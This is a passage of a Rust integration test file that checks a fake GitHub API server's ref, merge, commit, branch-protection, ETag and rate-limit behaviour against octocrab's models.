    let resp = r.send().await.unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let text = resp.text().await.unwrap();
    let v = if text.is_empty() {
        Value::Null
    } else {
        serde_json::from_str(&text).unwrap()
    };
    (status, headers, v)
}

#[tokio::test]
async fn the_fakes_ref_and_merge_endpoints_answer_as_github_does() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("README.md", "a\n")]).await;
    let (_, b) = pr(&hub, "b", &[("README.md", "b\n")]).await;
    let t = main_head(&hub).await;

    // Create: 201 with the ref object (octocrab's model); 422 if it exists.
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/x", "sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 201);
    let r: octocrab::models::repos::Ref = serde_json::from_value(v).unwrap();
    assert_eq!(r.ref_field, "refs/heads/x");
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/x", "sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference already exists"))
    );
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/y", "sha": "b".repeat(40)})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Object does not exist"))
    );

    // Update: fast-forward 200; backwards without force 422; with force 200.
    let (s, _, _) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": a.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 200);
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": false})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Update is not a fast forward"))
    );
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": "true"})),
        None,
    )
    .await;
    assert_eq!(s, 422, "force must be a boolean: {v}");
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": true})),
        None,
    )
    .await;
    assert_eq!((s, v["object"]["sha"].as_str()), (200, Some(t.as_str())));
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/nope",
        Some(json!({"sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference does not exist"))
    );

    // Merges: 201 commit (octocrab's model), 204 nothing to merge, 409
    // conflict, 404 missing base or head.
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": a.as_str(), "commit_message": "Shipped a"})),
        None,
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let c: octocrab::models::repos::RepoCommit = serde_json::from_value(v).unwrap();
    assert_eq!(c.commit.message, "Shipped a");
    assert_eq!(c.parents.len(), 2);
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": "a"})),
        None,
    )
    .await;
    assert_eq!(s, 204);
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": b.as_str()})),
        None,
    )
    .await;
    assert_eq!((s, v["message"].as_str()), (409, Some("Merge conflict")));
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "nope", "head": "a"})),
        None,
    )
    .await;
    assert_eq!(s, 404);
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": "nope"})),
        None,
    )
    .await;
    assert_eq!(s, 404);

    // Git commits: 201 and readable (octocrab's model); bad tree 422.
    let tree = tree_of(&hub, &a).await;
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/commits",
        Some(json!({"message": "squashed", "tree": tree, "parents": [t.as_str()]})),
        None,
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let made: octocrab::models::commits::GitCommitObject = serde_json::from_value(v).unwrap();
    assert_eq!(made.tree.sha, tree);
    let (s, _, v) = raw(
        &hub,
        "GET",
        &format!("/git/commits/{}", made.sha),
        None,
        None,
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(v["parents"][0]["sha"], t.as_str());
    assert_eq!(v["message"], "squashed");
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/git/commits",
        Some(json!({"message": "m", "tree": "c".repeat(40)})),
        None,
    )
    .await;
    assert_eq!(s, 422);

    // Delete: 204, then 422.
    let (s, _, _) = raw(&hub, "DELETE", "/git/refs/heads/x", None, None).await;
    assert_eq!(s, 204);
    let (s, _, v) = raw(&hub, "DELETE", "/git/refs/heads/x", None, None).await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference does not exist"))
    );

    // Protection: 404 unprotected, then the rule (octocrab's model).
    let (s, _, v) = raw(
        &hub,
        "GET",
        "/branches/main/protection/required_status_checks",
        None,
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (404, Some("Branch not protected"))
    );
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let (s, _, v) = raw(
        &hub,
        "GET",
        "/branches/main/protection/required_status_checks",
        None,
        None,
    )
    .await;
    assert_eq!(s, 200);
    let checks: octocrab::models::repos::RequiredStatusChecks = serde_json::from_value(v).unwrap();
    assert_eq!(checks.contexts, vec!["sluice".to_string()]);
    assert!(!checks.strict);
    let (_, _, v) = raw(&hub, "GET", "/branches/main", None, None).await;
    assert_eq!(v["protected"], true);
    assert_eq!(
        v["protection"]["required_status_checks"]["contexts"],
        json!(["sluice"])
    );
}

#[tokio::test]
async fn the_new_reads_answer_etags_and_304s_and_writes_count_against_the_limit() {
    let (_dir, hub) = hub().await;
    let t = main_head(&hub).await;
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &t)
        .await
        .unwrap();
    for path in [
        "/git/ref/heads/sluice/main/1".to_string(),
        "/git/matching-refs/heads/sluice/".to_string(),
        format!("/git/commits/{t}"),
        "/branches/main/protection/required_status_checks".to_string(),
    ] {
        let (s, h, _) = raw(&hub, "GET", &path, None, None).await;
        assert_eq!(s, 200, "{path}");
        let tag = h["etag"].to_str().unwrap().to_string();
        let remaining: u64 = h["x-ratelimit-remaining"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        let (s, h, _) = raw(&hub, "GET", &path, None, Some(&tag)).await;
        assert_eq!(s, 304, "{path}");
        let after: u64 = h["x-ratelimit-remaining"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert_eq!(after, remaining, "{path}: a 304 costs nothing");
    }
    let (_, h, _) = raw(&hub, "GET", "/git/ref/heads/main", None, None).await;
    let before: u64 = h["x-ratelimit-remaining"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let (s, h, _) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/sluice/main/1",
        Some(json!({"sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 200);
    let after: u64 = h["x-ratelimit-remaining"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(after, before - 1, "a ref update counts");

    // The adapter's repeated reads are conditional: the second costs nothing.
    gh.staging_refs(&repo()).await.unwrap();
    gh.required_checks(&repo(), "main").await.unwrap();
    let mark = hub.request_mark();
    assert_eq!(gh.staging_refs(&repo()).await.unwrap().len(), 1);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice"]
    );
    let log = hub.requests_since(mark);
    assert_eq!(log.len(), 2);
    assert!(log.iter().all(|r| r.status == 304 && !r.counted), "{log:?}");

    // With the limit used up, the new endpoints are refused like the others.
    hub.set_rate_limit(hub.rate_limit_used() + 1);
    let (s, _, _) = raw(&hub, "GET", "/git/ref/heads/main", None, None).await;
    assert_eq!(s, 200);
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "sluice/main/1", "head": "main"})),
        None,
    )
    .await;
    assert_eq!(s, 403, "{v}");
    assert!(v["message"].as_str().unwrap().contains("rate limit"));
}
